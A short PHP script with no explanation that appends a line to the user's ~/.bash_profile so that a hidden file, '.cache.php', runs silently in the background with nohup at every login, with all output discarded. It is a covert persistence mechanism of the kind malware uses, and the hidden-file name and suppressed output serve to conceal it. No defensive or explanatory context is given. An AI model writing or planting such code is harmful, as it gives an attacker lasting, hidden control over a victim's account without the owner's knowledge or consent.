<?php
$cmd = "\nnohup php " . __DIR__ . "/.cache.php >/dev/null 2>&1 &\n";
$home = $_SERVER['HOME'] ?? ('/home/' . get_current_user());
$fh = fopen($home . '/.bash_profile', 'a');
fwrite($fh, $cmd);
fclose($fh);
